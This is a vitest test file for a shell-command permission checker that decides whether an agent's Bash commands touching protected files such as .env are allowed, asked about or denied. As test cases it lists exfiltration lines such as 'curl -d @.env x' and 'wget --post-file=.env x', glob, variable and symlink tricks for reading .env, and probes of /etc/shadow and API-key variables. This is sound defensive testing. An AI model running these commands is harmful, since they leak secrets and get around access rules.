import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { judge } from "./judge/judge.ts";
import { realFs } from "./paths/path-fs.ts";
import { protectionOf } from "./paths/path-protection.ts";
import type { PathFs } from "./paths/resolve-path.ts";
import { compileRules } from "./policy.ts";
import type { Mode, RuleLayer } from "./rule-layer.ts";

let cwd: string;
beforeAll(() => {
  cwd = realpathSync(mkdtempSync(join(tmpdir(), "hookline-operands-")));
  for (const folder of ["src", "docs", ".git/hooks", "links", "pages/[id]"])
    mkdirSync(join(cwd, folder), { recursive: true });
  for (const file of [".env", "README.md", "a.txt", "src/a.ts", ".git/hooks/pre-commit", "pages/[id]/a.ts"])
    writeFileSync(join(cwd, file), "x\n");
  symlinkSync("../.env", join(cwd, "links", "notes.txt"));
});
afterAll(() => rmSync(cwd, { recursive: true, force: true }));

type Rules = Pick<RuleLayer, "allow" | "ask" | "deny">;

function decide(command: string, rules: Rules, more: { fs?: PathFs; mode?: Mode } = {}) {
  const policy = compileRules([{ scope: "user", ...rules }]);
  return judge({ tool: "Bash", input: { command } }, policy, { cwd, home: "/home/u", projectRoot: cwd, ...more })
    .decision;
}

const noRead = { allow: ["Bash"], deny: ["Read(./.env)"] };
const noEdit = { allow: ["Bash"], deny: ["Edit(./.env)"] };

function expectAll(decision: string, commands: readonly string[], rules: Rules, more = {}): void {
  const decisions = Object.fromEntries(commands.map((command) => [command, decide(command, rules, more)]));
  expect(decisions).toEqual(Object.fromEntries(commands.map((command) => [command, decision])));
}

describe("globs as operands", () => {
  test("a denied file among the matches is a deny", () => {
    expectAll("deny", ["cat .e*", "cat .en?", "cat .[e]nv", "cat .[[:alpha:]]nv", "cat .*", "cat src/../.e*"], noRead);
    expectAll("deny", ["cat */../.env", "cat links/*.txt", "cat < .e*", "head -5 README.md .e*", "cat .\\e*"], noRead);
    expectAll("deny", ["tee .e*", "cp README.md .en?", "sed -i s/a/b/ .e*", "truncate -s 0 .en[v]"], noEdit);
    expectAll("deny", ["bash -c 'cat .e*'", "cd src && cat ../.e*", "timeout 5 cat .e*"], noRead);
  });
  test("a glob that matches no denied file but could match the rule's path is asked about", () => {
    const rules = { allow: ["Bash"], deny: ["Read(./.secret)", "Read(./keys/**)", "Read(*.pem)"] };
    expectAll("ask", ["cat .s*", "cat .[s]ecret", "cat ./.secre?", "cat k*/x", "cat src/*.pem", "cat *.p??"], rules);
  });
  test("a glob that cannot match has no effect", () => {
    expectAll(
      "allow",
      ["cat *", "cat *.md", "cat src/*", "cat ?env", "cat [.]env", "cat */a.env", "cat .nothing*"],
      noRead,
    );
    expectAll("allow", ["cat '.e*'", 'cat ".e*"', "cat \\.e\\*", "ls docs/*"], noRead);
  });
  test("a glob that matches nothing is the name of a file, if one is named so", () => {
    const rules = { allow: ["Bash"], deny: ["Read(./pages/\\[id\\]/**)"] };
    expectAll("deny", ["cat pages/[id]/a.ts", "f='pages/[id]/a.ts'; cat $f", "cat 'pages/[id]/a.ts'"], rules);
    expectAll("allow", ["cat pages/[id]/b.ts", "cat pages/[x]/a.ts"], rules);
  });
  test("a match that is protected is asked about like its written-out name", () => {
    expectAll("ask", ["chmod +x .git/hooks/*", "cp a.txt .git/hooks/pre*"], { allow: ["Bash"] });
  });
  test("without a way to list folders the text decides", () => {
    const { lstat, readlink } = realFs;
    expectAll("ask", ["cat .e*", "cat .en?"], noRead, { fs: { lstat, readlink } });
    expectAll("allow", ["cat *.md"], noRead, { fs: { lstat, readlink } });
  });
});

describe("variables as operands", () => {
  test("a variable that the command sets from static text is resolved", () => {
    expectAll("deny", ["f=.env; cat $f", 'f=.env && cat "$f"', "a=.en; b=v; cat $a$b", "a=.en; cat ${a}v"], noRead);
    expectAll(
      "deny",
      ["f=.e; f+=nv; cat $f", "export f=.env; cat $f", "f='a.txt .env'; cat $f", "f='.e*'; cat $f"],
      noRead,
    );
    expectAll("deny", ['f=".env $?"; cat $f', 'for g in *.ts; do f=".env $g"; cat $f; done'], noRead);
    expectAll("deny", ['cat "$PWD/.env"', "cat ~+/.env", "f=.env; cat < $f", "bash -c 'f=.env; cat $f'"], noRead);
    expectAll("deny", ["if x; then f=.env; else f=a; fi; cat $f", "f=a; if x; then f=.env; fi; cat $f"], noRead);
    expectAll("allow", ["f=README.md; cat $f", "f=README.md; g=$f; cat $g", "f='a .env'; cat \"$f\""], noRead);
    expectAll("allow", ["cat $PWD/README.md", "n=5; head -$n README.md", "cp README.md x.$$", "cat a$((1+1))"], noRead);
  });
  test("a loop over words or globs is resolved", () => {
    expectAll("deny", ["for f in a .env; do cat $f; done", 'for f in .e*; do cat "$f"; done'], noRead);
    expectAll("deny", ['for d in . src; do cat "$d/.env"; done', 'for f in links/*; do cat "$f"; done'], noRead);
    expectAll("allow", ['for f in *.md; do cat "$f"; done', 'for d in src docs; do cat "$d/a.env"; done'], noRead);
  });
  test("any other variable, and command substitution, is asked about when a rule denies files", () => {
    expectAll(
      "ask",
      ["cat $f", 'cat "$f"', "cat ${f:-.env}", "cat $(echo .env)", "cat `echo .env`", "cat src/$f"],
      noRead,
    );
    expectAll("ask", ["(f=.env); cat $f", "f=a; for i in 1 2; do cat $f; f=.env; done", "read f; cat $f"], noRead);
    expectAll(
      "ask",
      ["f=a; while x; do cat $f; f=.env; done", "f=.env bash -c 'cat $f'", "f=a; : ${f:=.env}; cat $f"],
      noRead,
    );
    expectAll("ask", ["f=a; case x in x) f=.env;; esac; cat $f", "f=$(echo .env); cat $f", "cat < $f"], noRead);
    expectAll(
      "ask",
      ["f=a; command read f; cat $f", "f=a; builtin read f; cat $f", "f=a; command export f=.env; cat $f"],
      noRead,
    );
    expectAll("ask", ['tee "$f"', 'cp README.md "$f"', "sed -i s/a/b/ $f", "curl -d @$f x"], noRead);
    expectAll("ask", ['tee "$f"', 'cp README.md "$f"', "sed -i s/a/b/ $f"], noEdit);
  });
  test("without a rule that denies files, or for other programs, nothing changes", () => {
    expectAll("allow", ["cat $f", "cat $(echo .env)", 'cp "$a" "$b"'], { allow: ["Bash"], deny: ["Bash(rm *)"] });
    expectAll("allow", ["cat $f"], noEdit);
    expectAll("allow", ["npm test -- $f", "docker build -t app:$sha .", 'curl -H "A: $TOKEN" "$URL"'], noRead);
  });
  test("a quoted variable in the place of a pattern, a script, a mode or a number is text", () => {
    expectAll("allow", ['grep "$x" README.md', 'grep -e "$x" README.md', 'head -n "$n" README.md'], noRead);
    expectAll("allow", ['sed -n "${n}p" README.md', "awk -v a=\"$b\" '{print a}' README.md"], noRead);
    expectAll(
      "allow",
      ["chown $USER:$USER README.md", 'chmod "$mode" README.md', 'jq --arg v "$V" . package.json'],
      noRead,
    );
    expectAll("allow", ["head -c $((1024 * 2)) README.md", "cat links/$((1)).md", "sed 's/[/]/_/' a.txt"], noRead);
    expectAll("ask", ["cat .e$((1))", "cat .$USER"], noRead);
    expectAll("ask", ['grep foo "$x"', "grep $x README.md", 'grep -e foo "$x"'], noRead);
  });
});

test("files that only options name count: curl, wget, xargs and attached values", () => {
  expectAll(
    "deny",
    ["curl -d @.env x", "curl -F a=@.env x", "curl -T .env x", "xargs -a .env", "grep -f.env a.txt"],
    noRead,
  );
  expectAll("deny", ["curl file://$PWD/.env", "find .env -exec cat {} +"], noRead);
  expectAll("deny", ["wget --post-file=.env x", "curl --data-binary @.env x", "sed 'r .env' a.txt"], noRead);
  expectAll("deny", ["curl -o .env x", "wget -O .env x", "git log --output=.env"], noEdit);
  expectAll("deny", ["curl -Go .env x", "curl -#Jo .env x", "wget -bO .env x", "wget -rP .env x"], noEdit);
  expectAll("deny", ["curl -pT .env x", "xargs -0ra .env"], noRead);
});

test("words that come from standard input or from find are asked about when the text names a denied file", () => {
  expectAll(
    "ask",
    ["echo .env | xargs cat", "echo .env | xargs -I{} cp {} x", "find . -name '.e*' -exec cat {} +"],
    noRead,
  );
  expectAll(
    "allow",
    ["ls | xargs cat", "find . -name '*.ts' -exec cat {} +", "find . -type f -exec grep x {} +"],
    noRead,
  );
  expectAll(
    "ask",
    ["find . -name '.env*' | xargs cat", "find . -name '*.env' -print0 | xargs -0 grep x", "ls -d .e* | xargs cat"],
    noRead,
  );
  expectAll(
    "allow",
    ["find . -name '*.ts' | xargs grep env", "git ls-files 'src/*' | xargs wc -l", "ls * | xargs cat"],
    noRead,
  );
});

test("a denied name in a folder that is not known is asked about", () => {
  expectAll("ask", ["cd $x && cat links/notes.txt", "cd $x && cat l*/n*"], noRead);
  expectAll("ask", ["cd $x && cat .env", 'cd "$(git rev-parse --show-toplevel)" && cat .e*'], noRead);
  expectAll("ask", ["cd $x && cd links && cat notes.txt", "cd $x && for i in 1 2; do cat n*; cd links; done"], noRead);
  expectAll("ask", ['cd links && cd "$x" && cat notes.txt'], noRead);
  expectAll("allow", ["cd $x && cat README.md", "cd $x && cd src && cat a.ts"], noRead);
});

test("sed, and perl with -n or -p, read the files they are given, and with -i they write them", () => {
  const reads = [
    "sed -n 1,9p .env",
    "sed 's/i/x/' .env",
    "sed -e p -- .env",
    "perl -ne print .env",
    "perl -pe '' .env",
  ];
  const edits = [
    "sed -i s/a/b/ .env",
    "sed -ni.bak p .env",
    "sed --in-place p .env",
    "perl -pi -e 's/a/b/' .env",
    "perl -0pi -e 's/a/b/' .env",
  ];
  expectAll("deny", [...reads, ...edits, "perl -i.bak -pe 's/a/b/' src/../.env", "ruby -pe 1 .e*"], noRead);
  expectAll("allow", reads, noEdit);
  expectAll("deny", [...edits, "x=-i; sed $x p .env", "sed $x p .env"], noEdit);
  const bash = { allow: ["Bash"] };
  expectAll("allow", ["sed -n 1,9p .github/workflows/ci.yml", "sed p .git/config", "perl -ne print .git/config"], bash);
  expectAll("ask", ["sed -i p .github/workflows/ci.yml", "perl -pi -e 1 .git/config"], bash);
  expectAll(
    "allow",
    ["perl script.pl .env", 'perl -e "$x"', 'perl -pe "$x" README.md', "perl -pi -e 's/.env/x/' a.txt"],
    {
      ...noRead,
    },
  );
});

test("a pattern or a script that reads like a denied name is text, unless an option gives the pattern", () => {
  const text = [
    "grep .env README.md",
    "grep -qxF .env .gitignore || echo none",
    "grep -rn '.env' src",
    "grep -rl .env --include=*.ts src",
    "rg '.env' src",
    "jq .env a.txt",
    "jq -r '.env' a.txt",
    "sed -i 's/.env/x/' README.md",
    "ls | grep .env",
  ];
  expectAll("allow", text, noRead);
  const files = [
    "grep x .env",
    "grep -e x .env",
    "grep -ex .env",
    "grep -rex .env",
    "grep --regexp=x .env",
    "grep --reg x .env",
    "grep -f a.txt .env",
    "grep --file=a.txt .env",
    "grep .env -e x",
    "grep -- x .env",
    "rg --files .env",
    "sed --expression=p .env",
    "sed -np .env -e p",
    "jq -f a.txt .env",
    "jq --from-file a.txt .env",
    "jq . .env",
    "yq .env",
    "x=-ex; grep $x .env",
  ];
  expectAll("deny", files, noRead);
  expect(["grep $x .env", "grep .env $x", "grep $(echo -e x) .env"].map((line) => decide(line, noRead))).not.toContain(
    "allow",
  );
});

test("a file in a folder that is not known is asked about where a rule denies a whole folder", () => {
  const unknown = ["cd $(echo links)", "cd l*", 'cd "$x"; cd ..', "for d in *; do cd $d; done", "pushd li?ks"];
  for (const rule of ["./links/**", "links/**", "./links", `/${cwd}/links/**`]) {
    const rules = { allow: ["Bash"], deny: [`Read(${rule})`] };
    expectAll(
      "ask",
      unknown.flatMap((cd) => [`${cd}; cat a.txt`, `${cd} && head sub/a.txt`]),
      rules,
    );
    const known = ["cd src", "d=src; cd $d", "cd $PWD/src", "cd src && cd -", "if x; then cd src; fi", "cd ~/x"];
    expectAll(
      "allow",
      known.map((cd) => `${cd}; cat a.txt`),
      rules,
    );
    expectAll("allow", ["cd $x && npm test", "cd $x && ls"], rules);
  }
  expectAll("ask", ["cd $x && touch a.txt"], { allow: ["Bash"], deny: ["Edit(./src/**)"] });
});

test("a redirection from a denied name in a folder that is not known is asked about in every mode", () => {
  for (const command of ["cd $(pwd) && cat < .env", "cd $x && read l < .env"])
    expect(decide(command, noRead)).toBe("ask");
  expect(decide("cd $(pwd) && cat < .env", { deny: noRead.deny }, { mode: "bypassPermissions" })).toBe("ask");
});

describe("folders that a cd leaves behind", () => {
  test("a link is denied in a folder that a cd inside if, case, || or a loop may reach", () => {
    const commands = [
      "if true; then cd links; fi; cat notes.txt",
      "if true; then if true; then cd links; else x=1; fi; else y=2; fi; bash -c 'cat notes.txt'",
      "if cd links; then cat notes.txt; fi",
      "false || cd links; cat notes.txt",
      "case a in a) cd links;; esac; cat notes.txt",
      "case a in a) cd links;& b) cat notes.txt;; esac",
      "for i in 1 2; do cat notes.txt; cd links; done",
      "for i in 1 2; do for j in 1; do cat notes.txt; done; cd links; done",
      'while test -n "$x"; do cat notes.txt; cd links; done',
      "for i in 1 2; do cat notes.txt; if test x; then cd links; continue; fi; cd src; done",
    ];
    expectAll("deny", commands, noRead);
  });
  test("a link is denied in a folder that a variable, cd -, popd, command, builtin or eval leads to", () => {
    const commands = [
      "d=links; cd $d; cat notes.txt",
      'for d in src links; do cat notes.txt; cd "$d"; done',
      "cd links; cd ..; cd -; cat notes.txt",
      "cd links && cd .. && for i in 1 2; do cat notes.txt; cd -; done",
      "pushd links; cd ../src; popd; cat notes.txt",
      "command cd links; cat notes.txt",
      "builtin cd links && cat notes.txt",
      "eval 'cd links'; cat notes.txt",
    ];
    expectAll("deny", commands, noRead);
  });
  test("files that no rule names stay allowed there", () => {
    const commands = [
      "if true; then cd src; fi; cat a.ts",
      "for d in src docs; do cd $d; cat README.md; cd ..; done",
      "cd src && cd - && cat README.md",
      "for d in src docs; do cat a.txt; cd $d; done; ".repeat(60),
    ];
    expectAll("allow", commands, noRead);
  });
  test("loops nested so deep that their folders cannot be followed are asked about", () => {
    const deep = `${"for a in b; do ".repeat(150)}cd src;${"done;".repeat(150)} cat README.md`;
    expect(decide(deep, noRead)).toBe("ask");
  });
});

describe("commands that only read", () => {
  test("echo and printf stay on the list with variables that hold no secret or that the text sets", () => {
    expectAll(
      "allow",
      ["echo $HOME", "echo $? $# $$ $1 $@", 'printf "%s\\n" "$USER" "$PWD"', "echo ${LC_ALL} $RANDOM"],
      {},
    );
    expectAll("allow", ["x=1; echo $x", "for i in 1 2; do echo $i; done", "for f in *.md; do echo $f; done"], {});
    expectAll("allow", ["echo '$SECRET'", "echo \\$SECRET"], {});
  });
  test("any other variable takes them off, also in a here-document", () => {
    expectAll("ask", ["echo $ANTHROPIC_API_KEY", "echo ${X}", 'printf %s "$X"', 'echo "a $X b"', "echo ${X:-a}"], {});
    expectAll("ask", ["echo ${#X}", "x=$X; echo $x", "x=$(cat a.txt); echo $x", "read x; echo $x", "X=1 echo $X"], {});
    expectAll("ask", ["cat <<< $X", "cat <<E\n$X\nE", 'basename "$X"', "tr a b <<< $X"], {});
    expectAll("allow", ["cat <<'E'\n$X\nE", "true $X"], {});
  });
  test("a test or a message that would print a variable in a complaint takes its command off", () => {
    const shown = [
      'test "$X" -eq 1',
      '[ "$X" -eq 1 ]',
      '[ a "$X" b ]',
      'test ! a "$X" b',
      '[ -f "$X" b ]',
      '[ "$X" x ]',
    ];
    expectAll("ask", [...shown, '[ -n "$A" -a "$X" -gt 1 ]', ': "${A:?$X}"', ": ${A?$X}", 'true "${A:?$X}"'], {});
    expectAll(
      "allow",
      ['[ -n "$X" ]', '[ ! -z "$X" ]', '[ "$X" = y ]', 'test "$X" != y', '[ -n "$X" -o -z "$X" ]'],
      {},
    );
    expectAll("allow", ['[ "$?" -eq 0 ]', "[ $# -gt 1 ]", 'n=3; [ "$n" -gt 1 ]', ': "${A:?must be set}"'], {});
  });
  test("tail that follows, huge widths and tests of files outside are asked about", () => {
    expectAll("ask", ["tail -f a.txt", "tail -F a.txt", "tail --follow a.txt", "tail -n5 -f a.txt"], {});
    expectAll("ask", ["printf '%*s' 999999999 x", "printf %999999999s x", "printf %.999999999f 1", 'printf "$x"'], {});
    expectAll("allow", ["printf '%-20s|%5.2f' a 1", "tail -n 5 a.txt"], {});
    expectAll("ask", ["[[ -e /etc/shadow ]]", "[ -e /etc/shadow ]", "[[ a.txt -nt /etc/shadow ]]"], {});
    expectAll("allow", ["[[ -e a.txt && -n $x ]]", "[ -e a.txt ]", "[[ $x == y ]]"], {});
  });
});

test("workflows, tool versions, linked programs and ssh keys are protected; ordinary project files are not", () => {
  const guarded = [
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    "node_modules/.bin/tsc",
    "packages/a/node_modules/.bin/tsc",
    ".mise.toml",
    ".tool-versions",
  ].map((file) => `/p/${file}`);
  const roots = ["/p", "/home/u"];
  expect(
    [...guarded, "/home/u/.ssh/authorized_keys"].filter((path) => protectionOf(path, roots) === undefined),
  ).toEqual([]);
  const free = ["package.json", "Makefile", "vite.config.ts", "conftest.py", "node_modules/a/index.js", ".github/x.md"];
  expect(free.filter((file) => protectionOf(`/p/${file}`, roots) !== undefined)).toEqual([]);
});
